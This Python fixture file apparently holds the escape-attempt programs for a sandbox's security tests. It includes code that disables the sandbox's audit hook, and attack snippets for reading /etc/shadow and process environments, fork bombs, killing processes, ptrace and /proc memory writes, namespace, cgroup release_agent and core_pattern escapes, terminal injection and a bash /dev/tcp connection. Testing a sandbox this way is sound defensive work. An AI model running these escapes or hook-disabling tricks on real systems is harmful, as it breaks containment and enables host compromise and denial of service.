"""Escape attempts against the sandbox (selfplay/sandbox.py), for tests/test_escapes.py.

Each program first switches the audit hook off (`DISARM`, the escape reported in issue 16), so what is tested is
the kernel's isolation, not the hook. Then it tries one attack and, if the attack works, leaves evidence the test
checks from outside: a file written in a folder of the caller's (`@OUT@`, world-writable, so only the program's view
of the file system protects it), a file in the Python installation or the host's /tmp or /dev/shm, a connection
to a server the caller runs, a process still alive, a process of the caller's killed, or a secret printed.
Placeholders, replaced by the test with Python literals: @OUT@ @SECRET_PATH@ @PORT@ @ABSTRACT@ @SENTINEL@ @CALLER@
@TOKEN@ @STDLIB@ @TRAINER_FILE@. A program prints "ESCAPED" when a step that must fail worked but leaves no
trace outside by itself (becoming root inside, a capability, a device).
"""

from __future__ import annotations

DISARM = '''
def _disarm():
    try:
        open("/nonexistent-outside-the-sandbox")
    except PermissionError as error:
        frame = error.__traceback__
        while frame.tb_next is not None:
            frame = frame.tb_next
        deny = frame.tb_frame.f_back.f_locals["deny"]  # the hook's closure, from its frame

        def make(Denied=None):
            def deny(event):
                return Denied
            return deny

        deny.__code__ = make().__code__  # every refusal is now a no-op
    except OSError:
        pass


_disarm()
import ctypes, os, signal, socket, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)


def attempt(step):
    try:
        step()
    except BaseException as error:
        print("failed:", type(error).__name__, error)


def escaped_if(condition, what):
    if condition:
        print("ESCAPED", what)
'''

# (name, attack, late): a late attack's evidence may appear after the run ends, so the test looks again later.
ATTACKS: list[tuple[str, str, bool]] = [
    # --- reported in issue 16 ---------------------------------------------------------------------------------
    ("hook_off_then_os_system_id", "os.system('id; cat /etc/passwd; id > ' + @OUT@ + '/id')", False),
    ("hook_off_then_read_passwd", "attempt(lambda: print(open('/etc/passwd').read()))", False),
    ("hook_off_then_fork_child_writes_later",
     "pid = os.fork()\nif pid == 0:\n    time.sleep(1)\n    open(@OUT@ + '/forked', 'w').write('x')\n    os._exit(0)",
     True),
    ("dir_fd_write_into_stdlib",
     "def go():\n    d = os.open(@STDLIB@, os.O_RDONLY)\n"
     "    os.write(os.open(@TOKEN@ + '.py', os.O_WRONLY | os.O_CREAT, dir_fd=d), b'x')\nattempt(go)", False),
    ("dir_fd_write_into_out",
     "def go():\n    d = os.open(@OUT@, os.O_RDONLY)\n    os.open('dirfd', os.O_WRONLY | os.O_CREAT, dir_fd=d)\n"
     "attempt(go)", False),
    ("pidfd_kill_parent", "attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), 9))", False),
    ("pidfd_kill_caller", "attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(@CALLER@), 9))", False),
    ("pidfd_kill_sentinel", "attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(@SENTINEL@), 9))", False),
    ("setsid_child_outlives_group_kill",
     "os.system(\"setsid sh -c 'sleep 1; echo x > \" + @OUT@ + \"/late' &\")\ntime.sleep(0.2)", True),
    ("setsid_child_with_token_stays_alive",
     "os.system('setsid /bin/sleep 30 &')\n"
     "pid = os.fork()\nif pid == 0:\n    os.setsid()\n    os.execv('/bin/sleep', [@TOKEN@, '30'])\ntime.sleep(0.2)", False),
    ("mkfifo_outside", "attempt(lambda: os.mkfifo(@OUT@ + '/fifo'))\nattempt(lambda: os.mkfifo('/tmp/' + @TOKEN@))",
     False),
    ("stat_shadow_and_secret",
     "attempt(lambda: print(open('/etc/shadow').read()))\n"
     "attempt(lambda: print('ino=%d' % os.stat(@SECRET_PATH@).st_ino))", False),
    # --- held before (network, rlimits, environment), tried again with the hook off --------------------------
    ("tcp_connect_to_caller", "attempt(lambda: socket.create_connection(('127.0.0.1', @PORT@), timeout=1))", False),
    ("tcp_connect_by_name", "attempt(lambda: socket.create_connection(('localhost', @PORT@), timeout=1))", False),
    ("bash_dev_tcp", "os.system(\"bash -c 'echo hi > /dev/tcp/127.0.0.1/%d'\" % @PORT@)", False),
    ("python_subprocess_connects",
     "attempt(lambda: subprocess.run([sys.executable, '-c', 'import socket; "
     "socket.create_connection((\"127.0.0.1\", %d), timeout=1)' % @PORT@], timeout=3))", False),
    ("abstract_unix_socket",
     "def go():\n    s = socket.socket(socket.AF_UNIX)\n    s.connect('\\0' + @ABSTRACT@)\nattempt(go)", False),
    ("udp_and_raw_sockets",
     "attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', @PORT@)))\n"
     "attempt(lambda: escaped_if(socket.socket(socket.AF_PACKET, socket.SOCK_RAW), 'raw socket'))", False),
    ("print_environment", "print(dict(os.environ))\nattempt(lambda: print(open('/proc/self/environ').read()))",
     False),
    ("caller_environment_via_proc", "attempt(lambda: print(open('/proc/%d/environ' % @CALLER@).read()))", False),
    ("init_environment_via_proc", "attempt(lambda: print(open('/proc/1/environ').read()))", False),
    ("raise_cpu_limit_then_spin",
     "import resource\nattempt(lambda: resource.setrlimit(resource.RLIMIT_CPU, (100, 100)))\n"
     "attempt(lambda: resource.prlimit(0, resource.RLIMIT_CPU, (100, 100)))\nwhile True:\n    pass", False),
    ("raise_memory_limit_then_allocate",
     "import resource\nattempt(lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)))\nx = bytearray(2 * 10**9)",
     False),
    ("fork_bomb", "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass", False),
    ("thread_bomb",
     "import threading\nfor _ in range(1000):\n    attempt(lambda: threading.Thread(target=time.sleep, args=(30,)).start())",
     False),
    # --- other processes and the kernel ------------------------------------------------------------------------
    ("kill_sentinel", "attempt(lambda: os.kill(@SENTINEL@, 9))", False),
    ("kill_caller", "attempt(lambda: os.kill(@CALLER@, 9))", False),
    ("kill_everything", "attempt(lambda: os.kill(-1, signal.SIGKILL))\nprint('still here')", False),
    ("killpg_sentinel_group", "attempt(lambda: os.killpg(os.getpgid(@SENTINEL@), 9))", False),
    ("kill_init", "attempt(lambda: os.kill(1, 9))\nattempt(lambda: os.kill(os.getppid(), 9))", False),
    ("ptrace_attach_sentinel",
     "if libc.ptrace(16, @SENTINEL@, 0, 0) == 0:\n    libc.ptrace(8, @SENTINEL@, 0, 0)\n    print('ESCAPED ptrace')",
     False),
    ("ptrace_attach_init", "escaped_if(libc.ptrace(16, 1, 0, 0) == 0, 'ptrace of init')", False),
    ("proc_mem_of_sentinel",
     "def go():\n    with open('/proc/%d/mem' % @SENTINEL@, 'r+b') as f:\n        f.seek(0x400000)\n"
     "        f.write(b'\\0' * 4096)\nattempt(go)", False),
    ("proc_self_mem_then_write_out",
     "def go():\n    with open('/proc/self/mem', 'r+b') as f:\n        f.seek(id(b'') & ~4095)\n        f.read(16)\n"
     "attempt(go)\nattempt(lambda: open(@OUT@ + '/mem', 'w'))", False),
    ("proc_root_of_sentinel",
     "attempt(lambda: print(open('/proc/%d/root/' % @SENTINEL@ + @SECRET_PATH@).read()))\n"
     "attempt(lambda: open('/proc/%d/root/' % @SENTINEL@ + @OUT@ + '/viaroot', 'w'))", False),
    ("setns_into_sentinel_namespaces",
     "for kind in ('net', 'mnt', 'pid', 'user'):\n"
     "    attempt(lambda: os.setns(os.open('/proc/%d/ns/%s' % (@SENTINEL@, kind), os.O_RDONLY)))\n"
     "attempt(lambda: open(@OUT@ + '/setns', 'w'))", False),
    ("setsid_and_prctl_pdeathsig",
     "pid = os.fork()\nif pid == 0:\n    os.setsid()\n    libc.prctl(1, 0)\n    libc.prctl(36, 1)\n"
     "    os.execv('/bin/sleep', [@TOKEN@, '30'])\ntime.sleep(0.2)", False),
    ("double_fork_daemon_writes_later",
     "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(1.2)\n"
     "        open(@OUT@ + '/daemon', 'w').write('x')\n    os._exit(0)\ntime.sleep(0.1)", True),
    ("prctl_ambient_caps_then_setuid_0",
     "libc.prctl(47, 2, 21, 0, 0)\nattempt(lambda: os.setuid(0))\nattempt(lambda: os.setgid(0))\n"
     "escaped_if(os.getuid() == 0 or os.geteuid() == 0, 'root inside')", False),
    ("become_root_inside", "attempt(lambda: os.setresuid(0, 0, 0))\nescaped_if(os.geteuid() == 0, 'root inside')",
     False),
    ("unshare_user_then_mount_out",
     "escaped_if(libc.unshare(0x10000000 | 0x00020000) == 0 and "
     "libc.mount(b'/', b'/tmp', None, 0x1000 | 0x4000, None) == 0 and os.path.exists(@OUT@), 'host root')\n"
     "attempt(lambda: open(@OUT@ + '/unshare', 'w'))", False),
    ("unshare_net_and_connect",
     "libc.unshare(0x40000000)\nattempt(lambda: socket.create_connection(('127.0.0.1', @PORT@), timeout=1))", False),
    ("mount_remount_usr_rw",
     "escaped_if(libc.mount(None, b'/usr', None, 0x20 | 0x1000, None) == 0, 'remount')\n"
     "attempt(lambda: open('/usr/' + @TOKEN@, 'w'))", False),
    ("mount_proc_to_see_host",
     "os.makedirs('p', exist_ok=True)\nescaped_if(libc.mount(b'proc', b'p', b'proc', 0, None) == 0, 'mount proc')\n"
     "attempt(lambda: print(open('p/%d/environ' % @CALLER@).read()))", False),
    ("cgroup_release_agent",
     "os.makedirs('cg', exist_ok=True)\n"
     "escaped_if(libc.mount(b'cgroup', b'cg', b'cgroup', 0, b'rdma') == 0, 'mount cgroup')\n"
     "attempt(lambda: open('cg/release_agent', 'w').write('/bin/sh -c \"touch %s/agent\"' % @OUT@))", False),
    ("chroot_breakout",
     "attempt(lambda: os.chroot('.'))\nattempt(lambda: [os.chdir('..') for _ in range(50)])\n"
     "attempt(lambda: os.chroot('.'))\nattempt(lambda: open(@OUT@ + '/chroot', 'w'))", False),
    ("mknod_disk",
     "attempt(lambda: escaped_if(os.mknod('disk', 0o60600, os.makedev(8, 0)) is None, 'mknod'))\n"
     "attempt(lambda: escaped_if(open('/dev/sda', 'rb').read(16), 'disk'))\n"
     "attempt(lambda: escaped_if(open('/dev/mem', 'rb').read(16), 'memory'))", False),
    ("open_by_handle_at_host_root",
     "import struct\nhandle = ctypes.create_string_buffer(struct.pack('II', 8, 1) + struct.pack('Q', 2))\n"
     "fd = libc.syscall(304, os.open('/usr', os.O_RDONLY), handle, 0)\nescaped_if(fd >= 0, 'open_by_handle_at')",
     False),
    ("core_pattern_pipe",
     "attempt(lambda: open('/proc/sys/kernel/core_pattern', 'w').write('|/bin/sh -c \"touch %s/core\"' % @OUT@))\n"
     "os.kill(os.getpid(), signal.SIGSEGV)", False),
    ("sysctl_hostname",
     "attempt(lambda: open('/proc/sys/kernel/hostname', 'w').write(@TOKEN@))\n"
     "attempt(lambda: socket.sethostname(@TOKEN@))", False),
    ("realtime_priority_and_nice",
     "attempt(lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)))\n"
     "attempt(lambda: os.setpriority(os.PRIO_PROCESS, 0, -20))\n"
     "escaped_if(os.sched_getscheduler(0) == os.SCHED_FIFO or os.getpriority(os.PRIO_PROCESS, 0) < 0, 'priority')",
     False),
    ("kernel_log_and_keys",
     "attempt(lambda: escaped_if(open('/dev/kmsg').readline(), 'kmsg'))\n"
     "attempt(lambda: escaped_if(open('/proc/kmsg').read(1), 'kmsg'))", False),
    ("terminal_injection_tiocsti",
     "import fcntl, termios\nfor ch in 'touch %s/tty\\n' % @OUT@:\n"
     "    attempt(lambda: fcntl.ioctl(open('/dev/tty', 'w'), termios.TIOCSTI, ch))", False),
    ("inherited_descriptors",
     "for fd in range(3, 1024):\n    try:\n        target = os.readlink('/proc/self/fd/%d' % fd)\n"
     "    except OSError:\n        continue\n    if not target.startswith(('/proc', '/dev/null')) and 'pipe' not in target:\n"
     "        print('ESCAPED inherited', fd, target)", False),
    # --- the file system: the trainer's files, other runs, /dev/shm, links, the disk --------------------------
    ("read_secret_by_path", "attempt(lambda: print(open(@SECRET_PATH@).read()))", False),
    ("read_trainer_file", "attempt(lambda: print(open(@TRAINER_FILE@).read()))", False),
    ("list_host_tmp_and_other_runs",
     "import glob\nattempt(lambda: print(os.listdir('/tmp'), glob.glob('/tmp/*/*')))", False),
    ("walk_whole_view_for_secret",
     "for folder, _, names in os.walk('/'):\n    if folder.startswith(('/proc', '/usr', '/sys')):\n        continue\n"
     "    for name in names:\n        try:\n            text = open(os.path.join(folder, name), errors='replace').read(4096)\n"
     "        except OSError:\n            continue\n        print(text)", False),
    ("write_host_dev_shm", "attempt(lambda: open('/dev/shm/' + @TOKEN@, 'w').write('x'))", False),
    ("write_host_tmp", "attempt(lambda: open('/tmp/' + @TOKEN@, 'w').write('x'))", False),
    ("write_root_home", "attempt(lambda: open(os.path.expanduser('~') + '/' + @TOKEN@, 'w').write('x'))", False),
    ("write_out_directly", "attempt(lambda: open(@OUT@ + '/direct', 'w').write('x'))", False),
    ("write_program_source", "attempt(lambda: open('../program.py', 'w').write('x'))", False),
    ("symlink_in_workdir_to_out",
     "attempt(lambda: os.symlink(@OUT@, 'link'))\nattempt(lambda: open('link/symlink', 'w').write('x'))", False),
    ("symlink_race_swapping_folder",
     "os.mkdir('d')\nimport threading\nstop = []\n"
     "def swap():\n    while not stop:\n        try:\n            os.rename('d', 'dd'); os.symlink(@OUT@, 'd')\n"
     "            os.remove('d'); os.rename('dd', 'd')\n        except OSError:\n            pass\n"
     "attempt(lambda: threading.Thread(target=swap).start())\nfor _ in range(2000):\n"
     "    try:\n        open('d/race', 'w').close()\n    except OSError:\n        pass\nstop.append(1)", False),
    ("hardlink_to_secret",
     "attempt(lambda: os.link(@SECRET_PATH@, 'hard'))\nattempt(lambda: print(open('hard').read()))", False),
    ("proc_self_fd_reopen_stdin_for_writing", "attempt(lambda: open('/proc/self/fd/0', 'w').write('x'))", False),
    ("rename_out_of_workdir",
     "open('f', 'w').write('x')\nattempt(lambda: os.rename('f', @OUT@ + '/renamed'))", False),
    ("fill_the_disk",
     "total = 0\nfor folder in ('.', '/tmp'):\n    for i in range(100000):\n        try:\n"
     "            with open('%s/f%d' % (folder, i), 'wb') as f:\n                f.write(b'x' * 65536)\n"
     "            total += 65536\n        except OSError:\n            break\nprint('written', total)", False),
    ("fill_the_inodes",
     "count = 0\nfor i in range(10**6):\n    try:\n        os.close(os.open('e%d' % i, os.O_CREAT | os.O_WRONLY))\n"
     "        count += 1\n    except OSError:\n        break\nprint('files', count)", False),
    ("huge_argv_and_env",
     "attempt(lambda: os.execve('/bin/sh', ['sh', '-c', 'echo hi', 'x' * 10**8], {'A': 'y' * 10**8}))", False),
    ("exec_fresh_python_without_hook",
     "os.execv(sys.executable, [sys.executable, '-c', 'open(%r, \"w\")' % (@OUT@ + '/fresh')])", False),
    ("exec_setuid_binary",
     "for path in ('/usr/bin/su', '/usr/bin/sudo', '/usr/bin/passwd', '/usr/bin/newgrp', '/usr/bin/mount'):\n"
     "    if os.path.exists(path):\n        os.system(path + ' --help >/dev/null 2>&1; id')", False),
    ("deep_recursion_segfault", "sys.setrecursionlimit(10**7)\nf = lambda n: f(n + 1)\nf(0)", False),
    ("disarmed_hook_really_is_off", "import _posixsubprocess\nprint('hook off')", False),
]

# Attacks the namespaces and the unprivileged user let through (or that only a sysctl of this machine stops) and
# the seccomp filter refuses (selfplay/sandbox.py SECCOMP_DENIED): each prints ESCAPED when its call works. Run
# where the filter is on (seccomp_problem() is None); none is needed by an ordinary program. x86_64 numbers where
# libc has no wrapper; on another architecture those attacks say so and stop.
SECCOMP_ATTACKS: list[tuple[str, str, bool]] = [
    ("unshare_user_then_map_root",
     "def go():\n    uid = os.getuid()\n    libc.prctl(4, 1)  # PR_SET_DUMPABLE: /proc/self becomes ours again\n"
     "    if libc.unshare(0x10000000) != 0:\n"
     "        return print('failed: unshare errno', ctypes.get_errno())\n"
     "    open('/proc/self/setgroups', 'w').write('deny')\n    open('/proc/self/uid_map', 'w').write('0 %d 1' % uid)\n"
     "    escaped_if(os.getuid() == 0, 'root in a new user namespace')\n"
     "    escaped_if(libc.unshare(0x00020000) == 0 and libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0, 'mount')\n"
     "attempt(go)", False),
    ("clone_into_new_user_namespace",
     "pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)\nif pid == 0:\n    os._exit(0)\n"
     "print('clone errno', ctypes.get_errno())\nescaped_if(pid > 0, 'clone with CLONE_NEWUSER')", False),
    ("clone3_into_new_user_namespace",
     "import struct\nargs = struct.pack('11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)  # flags, exit_signal\n"
     "pid = libc.syscall(435, ctypes.create_string_buffer(args), 88)\nif pid == 0:\n    os._exit(0)\n"
     "print('clone3 errno', ctypes.get_errno())\nescaped_if(pid > 0, 'clone3 with CLONE_NEWUSER')", False),
    ("io_uring_setup",
     "fd = libc.syscall(425, 8, ctypes.create_string_buffer(120))\nescaped_if(fd >= 0, 'an io_uring')", False),
    ("bpf_map_create",
     "import struct\nattr = ctypes.create_string_buffer(struct.pack('4I', 2, 4, 4, 1), 128)\n"
     "escaped_if(libc.syscall(321, 0, attr, 128) >= 0, 'a BPF map')", False),
    ("userfaultfd_user_mode",
     "escaped_if(libc.syscall(323, 0o2000000 | 1) >= 0, 'a userfaultfd')", False),
    ("perf_event_open_self",
     "import struct\nattr = ctypes.create_string_buffer(struct.pack('IIQQQQQ', 1, 64, 0, 0, 0, 0, 0b1100000), 64)\n"
     "escaped_if(libc.syscall(298, attr, 0, -1, -1, 0) >= 0, 'a perf event')", False),
    ("keyring_shared_by_the_user",
     "escaped_if(libc.syscall(248, b'user', @TOKEN@.encode(), b'x', 1, -4) >= 0, 'a key in the user keyring')",
     False),
    ("pidfd_open_init", "attempt(lambda: escaped_if(os.pidfd_open(1) >= 0, 'a pidfd of pid 1'))", False),
    ("ptrace_traceme", "escaped_if(libc.ptrace(0, 0, 0, 0) == 0, 'ptrace')", False),
    ("process_vm_readv_self",
     "class Iovec(ctypes.Structure):\n    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\n"
     "source, target = ctypes.create_string_buffer(b'x' * 16), ctypes.create_string_buffer(16)\n"
     "local, remote = Iovec(ctypes.addressof(target), 16), Iovec(ctypes.addressof(source), 16)\n"
     "escaped_if(libc.process_vm_readv(os.getpid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 16,"
     " 'process_vm_readv')", False),
    ("name_to_handle_at_usr",
     "import struct\nhandle, mount = ctypes.create_string_buffer(struct.pack('I', 128), 136), ctypes.c_int()\n"
     "escaped_if(libc.syscall(303, -100, b'/usr', handle, ctypes.byref(mount), 0) == 0, 'a file handle')", False),
    ("personality_without_address_randomisation",
     "escaped_if(libc.personality(0x0040000) != -1, 'personality(ADDR_NO_RANDOMIZE)')", False),
    ("mknod_whiteout_device",
     "attempt(lambda: escaped_if(os.mknod('whiteout', 0o20600, 0) is None, 'a character device'))", False),
    ("i386_int80_unshare",
     "import mmap, platform\nif platform.machine() != 'x86_64':\n    raise SystemExit('not x86_64')\n"
     "code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
     # push rbx; mov eax, 310 (unshare, 32-bit numbers); mov ebx, CLONE_NEWUSER; int 0x80; pop rbx; ret
     "code.write(bytes.fromhex('53b836010000bb00000010cd805bc3'))\n"
     "call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))\n"
     "escaped_if(call() == 0, 'unshare through the 32-bit ABI')", False),
]
